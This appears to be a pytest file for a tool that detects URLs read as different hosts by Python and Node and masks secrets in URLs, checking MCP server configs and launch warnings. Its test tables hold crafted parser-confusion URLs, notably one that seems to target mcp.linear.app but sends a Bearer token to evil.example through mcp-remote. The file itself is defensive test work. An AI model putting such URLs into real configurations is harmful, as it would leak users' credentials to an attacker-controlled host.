"""URLs whose host Python programs and Node programs read differently, and URL masking that keeps
every character it does not mask.

``https://evil.example\\@mcp.linear.app/sse`` is shown ``https://••••@mcp.linear.app/sse`` (for
Python, what stands before the ``@`` is a user name, maybe a token), while Node (``mcp-remote``, a
browser) reads ``\\`` as ``/`` and reaches ``evil.example``. A remote server with such a URL is not
used; a command line argument holding one gets a warning naming both hosts, in the file's warnings
and above the command line in the launch confirmation.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from conftest import run_cli, write_json

from toolsearch.engine import constants as C
from toolsearch.engine.secrets import redact_url, scrub_text
from toolsearch.live import urlreading
from toolsearch.live.mcpconfig import mask_arguments, parse_config_data

ROOT = Path(__file__).resolve().parent.parent
MASK = C.SECRET_MASK
EVIL = "https://evil.example\\@mcp.linear.app/sse"
TOKEN = "lin_api_S3cretValue42"
LINEAR = {"mcpServers": {"linear": {"command": "npx", "args": [
    "-y", "mcp-remote", EVIL, "--header", "Authorization: Bearer ${LINEAR_API_KEY}"]}}}

# (url, the host Python's urlsplit reads, the host Node 20's `new URL` reaches; None: none / refused)
HOSTS = [
    (EVIL, "mcp.linear.app", "evil.example"),
    ("https://a@b@mcp.linear.app/sse", "mcp.linear.app", "mcp.linear.app"),
    ("https://mcp.linear.app\t.evil.example/", "mcp.linear.app.evil.example", "mcp.linear.app.evil.example"),
    ("https://mcp%2elinear.app/", "mcp%2elinear.app", "mcp.linear.app"),
    ("https://admin\\:secretpw@host/x", "host", "admin"),
    ("https://admin:p\\ss@host/", "host", None),
    ("http://evil.example\\x/y", "evil.example\\x", "evil.example"),
    ("https:\\\\evil.example/x", None, "evil.example"),
    ("https://0x7f.1/", "0x7f.1", "127.0.0.1"),
    ("https://[0:0::1]:8080/", "0:0::1", "[::1]"),
    ("redis://a\\@b/", "b", "b"),  # not a special scheme: "\" is a character for Node too
    ("file://host\\x/y", "host\\x", None),  # no network: not compared
]


@pytest.mark.parametrize(("url", "python", "whatwg"), HOSTS)
def test_each_url_is_read_both_ways(url, python, whatwg) -> None:
    readings = urlreading.read_hosts(url)
    assert (readings.python, readings.whatwg) == (python, whatwg)


def test_node_reads_them_so_too(tmp_path) -> None:
    """The WHATWG column above is what Node itself reaches (skipped where Node is not installed)."""
    node = subprocess.run(["node", "--version"], check=False, capture_output=True, text=True) if _has("node") else None
    if node is None or node.returncode != 0:
        pytest.skip("node is not installed")
    script = tmp_path / "hosts.js"
    script.write_text("const urls = JSON.parse(process.argv[2]);\n"
                      "console.log(JSON.stringify(urls.map(u => { try { const x = new URL(u);"
                      " return x.protocol === 'file:' ? null : (x.hostname || null) } catch (e) { return null } })));\n")
    urls = [url for url, _, _ in HOSTS]
    got = json.loads(subprocess.run(["node", str(script), json.dumps(urls)], capture_output=True, text=True,
                                    check=True).stdout)
    assert got == [whatwg for _, _, whatwg in HOSTS]


def _has(program: str) -> bool:
    import shutil
    return shutil.which(program) is not None


def test_only_hosts_that_differ_are_named() -> None:
    said = urlreading.host_disagreement(EVIL)
    assert said == ("the URL's host reads two ways (a '\\' before the host's end, which browsers and Node read as "
                    "'/'): Python programs such as toolsearch and Hermes reach host 'mcp.linear.app', browsers and "
                    "Node programs such as mcp-remote reach host 'evil.example'")
    for same in ("https://mcp.linear.app/sse", "https://a@b@mcp.linear.app/sse", "https://0x7f.1/", "redis://a\\@b/",
                 "https://ｅｖｉｌ.example/", "https://bücher.example/", "https://[0:0::1]/", "C:\\Users\\me",
                 "https://MCP.Linear.App./x", "https://admin:p\\ss@host/"):
        assert urlreading.host_disagreement(same) is None, same
    assert "a percent-escape in the host" in urlreading.host_disagreement("https://mcp%2elinear.app/")
    # found inside a script, after --url=, and with a tab that Node drops
    for text in (f"npx mcp-remote {EVIL} --debug", f"--url={EVIL}", "'https://evil.example\t\\@mcp.linear.app/'"):
        assert "host 'evil.example'" in (urlreading.host_disagreement(text) or ""), text


def test_a_host_that_may_be_a_token_or_a_secret_is_not_repeated() -> None:
    token = "ghp_abcdefghijklmnopqrstuvwxyz0123456789"
    said = urlreading.host_disagreement(f"https://{token}\\@github.com/mcp")
    assert token not in said and "host 'github.com'" in said
    assert "a host not repeated here (Python reads it as a user name, which may be a token)" in said
    assert "admin" not in urlreading.host_disagreement("https://admin\\:secretpw@host/x")
    hidden = urlreading.host_disagreement(EVIL, hidden=lambda host: host == "evil.example")
    assert "evil.example" not in hidden and "it holds a variable's value or a secret of the config" in hidden


def test_a_crafted_text_is_read_for_a_bounded_number_of_urls() -> None:
    text = "x://a " * 5000 + EVIL
    assert "the rest was not read" in urlreading.host_disagreement(text)  # past the bound: said
    urls, cut = urlreading.urls_in("x://a " * 5000)
    assert cut and len(urls) <= 3 * urlreading.MAX_URLS_PER_TEXT
    # nested starts with no end of authority: read up to eight times the text, then said
    nested = "a:\\" * 30000
    urls, cut = urlreading.urls_in(nested)
    assert cut and sum(map(len, urls)) <= 8 * len(nested) + urlreading.MAX_URL_CHARS
    assert "the rest was not read" in urlreading.host_disagreement(nested)


def test_a_remote_server_whose_host_reads_two_ways_is_not_used() -> None:
    evil, token, percent, two_ats, plain = parse_config_data({"mcpServers": {
        "evil": {"url": EVIL, "headers": {"Authorization": "Bearer S3cretHeader42"}},
        "token": {"url": "https://ghp_abcdefghijklmnopqrstuvwxyz0123456789\\@github.com/mcp"},
        "percent": {"url": "https://mcp%2elinear.app/sse"},
        "two_ats": {"url": "https://me@corp.example:S3cretPw77@mcp.linear.app/sse"},
        "plain": {"url": "https://mcp.linear.app/sse"},
    }}, "mcp.json").servers
    assert evil.invalid == (
        "mcp.json: mcpServers.evil.url: the URL's host reads two ways (a '\\' before the host's end, which browsers "
        "and Node read as '/'): Python programs such as toolsearch and Hermes reach host 'mcp.linear.app', browsers "
        "and Node programs such as mcp-remote reach host 'evil.example'; not used, so nothing is sent: expected '/' "
        "after the host, never '\\' (in a user name, '\\' as %5C)")
    assert "ghp_" not in token.invalid and "host 'github.com'" in token.invalid
    assert "host 'mcp%2elinear.app'" in percent.invalid and "host 'mcp.linear.app'" in percent.invalid
    assert two_ats.invalid is None and plain.invalid is None  # every reader takes the last '@'
    assert two_ats.launch_preview()["url"] == f"https://{MASK}@mcp.linear.app/sse"
    for spec in (evil, token, two_ats):
        shown = json.dumps(spec.redacted()) + json.dumps(spec.launch_preview()) + (spec.invalid or "")
        assert "S3cret" not in shown and "ghp_" not in shown


def test_an_argument_with_such_a_url_is_named_in_the_warnings_and_the_launch_confirmation() -> None:
    config = parse_config_data(LINEAR, "mcp.json", environ={"LINEAR_API_KEY": TOKEN})
    (spec,) = config.servers
    assert spec.invalid is None  # the program given the URL decides: said, not refused
    preview = spec.launch_preview()
    assert preview["command_line"] == f"npx -y mcp-remote https://{MASK}@mcp.linear.app/sse --header 'Authorization: {MASK}'"
    (warning,) = preview["warnings"]
    assert warning.startswith("args[2]: the URL's host reads two ways") and "reach host 'evil.example'" in warning
    assert spec.launch_preview(expanded=False)["warnings"] == preview["warnings"]
    (line,) = config.warnings
    assert line == f"mcp.json: mcpServers.linear.{warning}"
    # a script argument and a plain one
    (script,) = parse_config_data({"mcpServers": {"s": {"command": "bash", "args": [
        "-c", f"npx mcp-remote {EVIL} --verbose", "https://mcp.linear.app/sse"]}}}, "mcp.json").servers
    assert [w.split(":")[0] for w in script.launch_preview()["warnings"]] == ["args[1]"]


def test_a_host_from_a_variable_is_masked_in_the_warning() -> None:
    config = parse_config_data({"mcpServers": {"v": {"command": "npx", "args": [
        "mcp-remote", "https://${INTERNAL_HOST}\\@mcp.linear.app/sse"]}}}, "mcp.json",
        environ={"INTERNAL_HOST": "corp-internal-7731.example"})
    (spec,) = config.servers
    shown = "\n".join([*config.warnings, *spec.launch_preview()["warnings"]])
    assert "corp-internal-7731" not in shown and "reach a host not repeated here (it holds a variable's" in shown, shown


def test_plan_says_it_on_stderr(tmp_path) -> None:
    config = write_json(tmp_path / "mcp.json", {"mcpServers": {"remote": {"url": EVIL}}})
    result = run_cli("plan", config)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "mcpServers.remote.url: the URL's host reads two ways" in result.stderr, result.stderr
    assert "reach host 'evil.example'" in result.stderr and "nothing is sent" in result.stderr


def _server_given(url: str) -> dict:
    """A stdio entry that starts the real test MCP server, with ``url`` among its arguments."""
    import sys  # noqa: PLC0415

    start = ("import runpy, sys; path = sys.argv[1]; sys.argv = [path, '--name', 'docs']; "
             "runpy.run_path(path, run_name='__main__')")
    return {"command": sys.executable, "args": ["-c", start, str(ROOT / "tests" / "mcp_test_server.py"), url]}


@pytest.mark.parametrize("command", [("plan",), ("call", "mcp__docs__add", "-a", '{"a": 1, "b": 2}'),
                                     ("call", "add", "-a", '{"a": 1, "b": 2}', "--tool-names", "as-is")])
def test_the_cli_says_it_before_the_server_starts(tmp_path, command) -> None:
    """The warning naming both hosts is on stderr above the server's own line: a user who stops the
    command on reading it has started nothing that the warning did not name first."""
    config = write_json(tmp_path / "mcp.json", {"mcpServers": {"docs": _server_given(EVIL)}})
    result = run_cli(command[0], str(config), *command[1:])
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    lines = result.stderr.splitlines()
    warned = [i for i, line in enumerate(lines) if "the URL's host reads two ways" in line]
    started = [i for i, line in enumerate(lines) if line.startswith("toolsearch: live: docs")]
    assert len(warned) == 1 and started and warned[0] < started[0], result.stderr
    assert "reach host 'evil.example'" in lines[warned[0]]


def test_the_live_pages_launch_confirmation_shows_the_warning_before_anything_starts(tmp_path) -> None:
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "pages" / "live.py"), default_timeout=120)
    at.run()
    at.file_uploader(key="live_config_upload").set_value(("mcp.json", json.dumps(LINEAR).encode(), "application/json"))
    at.run()
    at.button(key="live_connect").click().run()  # the confirmation; nothing starts before Start
    assert not at.exception, at.exception
    assert "live_connections" not in at.session_state and "live_catalog" not in at.session_state
    warnings = [str(w.value).replace("\\", "") for w in at.warning]  # Markdown escapes left out
    assert any(w.startswith("args[2]: the URL") and "host 'evil.example'" in w for w in warnings), warnings
    assert any(f"{MASK}@mcp.linear.app/sse" in code.value for code in at.code)


# --- masking keeps what it does not mask ---------------------------------------------------------------

@pytest.mark.parametrize(("url", "shown"), [
    ("sqlite:///x?password=secret", f"sqlite:///x?password={MASK}"),
    ("HTTPS://U:Pw@Host:8080/x?", f"HTTPS://{MASK}@Host:8080/x?"),
    ("https://h.example/a#", "https://h.example/a#"),
    ("postgresql://u:pw@db//x?sslmode=require", f"postgresql://{MASK}@db//x?sslmode={MASK}"),
    ("https://u:p@h\nx/?a=b\tc", f"https://{MASK}@h\nx/?a={MASK}"),
    ("https://h/a;jsessionid=abc/x?token=1&debug#k=v", f"https://h/a;jsessionid={MASK}/x?token={MASK}&debug#k={MASK}"),
    ("https:/\t/u:pw@h/x", f"https://{MASK}@h/x"),  # Python drops the tab and reads a password: masked as it reads it
])
def test_masking_replaces_only_the_secret_parts_of_a_url(url, shown) -> None:
    assert redact_url(url) == shown


@pytest.mark.parametrize("password", ["secret(pw", "secret'pw", "se{cret}pw", "sec|retpw", "secret\tpw",
                                      "secret\u00a0pw"])
def test_a_password_with_a_quote_a_parenthesis_or_a_brace_is_masked_in_an_argument(password) -> None:
    """An argument that is one whole URL is read as Python reads it: its user part runs to the last
    '@' before the host, whatever characters it holds; what the server echoes is masked by value."""
    url = f"https://user:{password}@host.example/mcp"
    for arg, shown in ((url, f"https://{MASK}@host.example/mcp"), (f"--url={url}", f"--url=https://{MASK}@host.example/mcp")):
        assert mask_arguments([arg]) == [shown]
        (spec,) = parse_config_data({"mcpServers": {"s": {"command": "srv", "args": [arg]}}}, "mcp.json").servers
        assert "retpw" not in spec.launch_preview()["command_line"]
        assert "retpw" not in spec.scrub(f"connecting to {url} failed")


@pytest.mark.parametrize("text", [
    '{"server":"https://mcp.linear.app","user":"bob@evil.example"}',
    "[docs](https://example.com)@mention",
    '<a href="https://example.com">mail@example.org</a>',
    "{'url': 'https://evil.example', 'owner': 'ops@mcp.linear.app'}",
])
def test_a_url_in_text_does_not_reach_across_quotes_or_brackets_to_a_later_at(text) -> None:
    """In free text (a compact JSON argument, a description, stderr) the user part of a URL ends at
    a quote, a bracket or a parenthesis: an e-mail address after it is not read as the URL's host."""
    assert scrub_text(text) == text
    assert mask_arguments(["client.js", text]) == ["client.js", text]


def test_the_launch_confirmation_reads_each_argument_once_for_its_notes() -> None:
    """A config with many arguments holding such URLs: five are named and the rest counted, the same
    lines in the file's warnings and in the launch confirmation."""
    args = [f"https://e{n}.example\\@mcp.linear.app/sse" for n in range(40)]
    config = parse_config_data({"mcpServers": {"many": {"command": "npx", "args": ["mcp-remote", *args]}}}, "mcp.json")
    (spec,) = config.servers
    notes = spec.launch_preview()["warnings"]
    assert len(notes) == 6 and notes[-1] == "args: 35 more arguments hold a URL whose host reads two ways (not named)"
    assert [n.split(":")[0] for n in notes[:5]] == [f"args[{i}]" for i in range(1, 6)]
    assert config.warnings == tuple(f"mcp.json: mcpServers.many.{note}" for note in notes)


@pytest.mark.parametrize("url", [
    "https://evil.example\\@mcp.linear.app[/sse",      # Python refuses it (a bracket)
    "https://evil.example\\@mcp.linear.app\uff0f@x/sse",  # Python refuses it (NFKC turns U+FF0F into '/')
    "https:///evil.example\\@mcp.linear.app/sse",       # Python reads no host
    "https://evil.example\\@/mcp.linear.app/sse",       # Python's host is empty
])
def test_a_url_python_reads_no_host_in_is_named_when_node_reaches_one(url) -> None:
    (spec,) = parse_config_data({"mcpServers": {"s": {"command": "npx", "args": ["mcp-remote", url]}}},
                                "mcp.json").servers
    (note,) = spec.launch_preview()["warnings"]
    assert "read no host in it" in note and "reach host 'evil.example'" in note, note


def test_a_url_past_many_others_in_a_script_is_read_or_the_rest_is_said() -> None:
    script = "for u in " + " ".join(f"https://h{n}.example/" for n in range(100)) + f" {EVIL}; do npx mcp-remote $u; done"
    assert "host 'evil.example'" in urlreading.host_disagreement(script)
    crowded = " ".join(f"https://h{n}.example/" for n in range(urlreading.MAX_URLS_PER_TEXT + 1)) + " " + EVIL
    assert "the rest was not read" in urlreading.host_disagreement(crowded)


@pytest.mark.parametrize(("url", "environ", "secret"), [
    ("https://evil.example\\@${TENANT}.linear.app/sse", {"TENANT": "AcmeSecretTenant"}, "acmesecrettenant"),
    ("https://${T}.evil.example\\@mcp.linear.app/sse", {"T": "b\u00fccher-secret"}, "bcher-secret"),
    ("https://${H}@mcp.linear.app/sse", {"H": "tenant-secret.example\\"}, "tenant-secret"),
])
def test_a_host_from_a_variable_is_never_named(url, environ, secret) -> None:
    """Both readers lowercase a host and Node writes a non-ASCII one in IDNA: a host that came from a
    variable is not repeated, whatever form it takes."""
    config = parse_config_data({"mcpServers": {
        "stdio": {"command": "npx", "args": ["mcp-remote", url]}, "remote": {"url": url}}}, "mcp.json", environ=environ)
    stdio, remote = config.servers
    shown = "\n".join([*config.warnings, *stdio.launch_preview()["warnings"], *stdio.launch_preview(False)["warnings"],
                       remote.invalid or ""])
    assert "reads two ways" in shown and secret not in shown.casefold(), shown
    assert "holds a variable's value or a secret of the config" in shown


def test_a_url_python_cannot_read_is_refused_without_its_password() -> None:
    (spec,) = parse_config_data({"mcpServers": {"r": {"url": "https://admin:hunter2secret@mcp.linear.app\uff0fx/sse"}}},
                                "mcp.json").servers
    assert "hunter2secret" not in spec.invalid
    assert spec.invalid.endswith("(a character in its host part that NFKC normalisation turns into '/', '?', '#', "
                                 "'@' or ':')")


@pytest.mark.parametrize("url", [
    "ht\ttps://evil.example\\@good.example/sse",   # both readers drop a tab anywhere, the scheme included
    "https\t://evil.example\\@good.example/sse",
    "https:evil.example\\@good.example/sse",         # WHATWG takes https:host for https://host
])
def test_a_tab_in_the_scheme_or_no_slashes_does_not_skip_the_reading(url) -> None:
    (stdio, remote) = parse_config_data({"mcpServers": {"s": {"command": "npx", "args": ["mcp-remote", url]},
                                         "r": {"url": url}}}, "mcp.json").servers
    (note,) = stdio.launch_preview()["warnings"]
    # named (or masked: a shell splits the tab's text into words, where Python reads a user name)
    assert "the URL's host reads two ways" in note and "browsers and Node programs such as mcp-remote reach" in note
    assert remote.invalid is not None  # refused: nothing is sent


@pytest.mark.parametrize("text", ["Docs: https://docs.example.com\nsupport@example.com",
                                  "See https://docs.example.com\r\nops@example.com for help",
                                  "https://a.example\tops@b.example"])
def test_a_line_break_or_tab_after_a_url_in_text_ends_it(text) -> None:
    """A line of text ending with a URL and the next starting with an e-mail address: the address is
    not taken for the URL's host."""
    assert scrub_text(text) == text


@pytest.mark.parametrize(("arg", "shown"), [
    ("https\t://admin:S3cretPassw0rd@good.example/sse", f"https\t://{MASK}@good.example/sse"),
    ("https:admin:S3cretPassw0rd@good.example/sse", f"{MASK}@good.example/sse"),
    ("DATABASE_URL=postgres://admin:p4ss[1]@db.example/app", f"DATABASE_URL=postgres://{MASK}@db.example/app"),
])
def test_a_whole_url_argument_in_other_forms_is_masked(arg, shown) -> None:
    assert mask_arguments([arg]) == [shown]


def test_a_url_word_of_a_script_is_masked_as_the_program_reads_it() -> None:
    (spec,) = parse_config_data({"mcpServers": {"s": {"command": "sh", "args": [
        "-c", "curl https://u:pa(ssw0rd@h.example/x"]}}}, "mcp.json").servers
    assert "ssw0rd" not in spec.launch_preview()["command_line"]
    assert "pa(ssw0rd" in spec.own_secrets()


def test_set_cookie_attributes_are_not_searched_as_secrets() -> None:
    from toolsearch.live.mcpconfig import cookie_values

    assert cookie_values("sid=3f9a8b7c6d5e; Expires=Wed, 21 Oct 2026 07:28:00 GMT; Max-Age=31536000; "
                         "Path=/api/v1/resources; HttpOnly") == ["3f9a8b7c6d5e"]
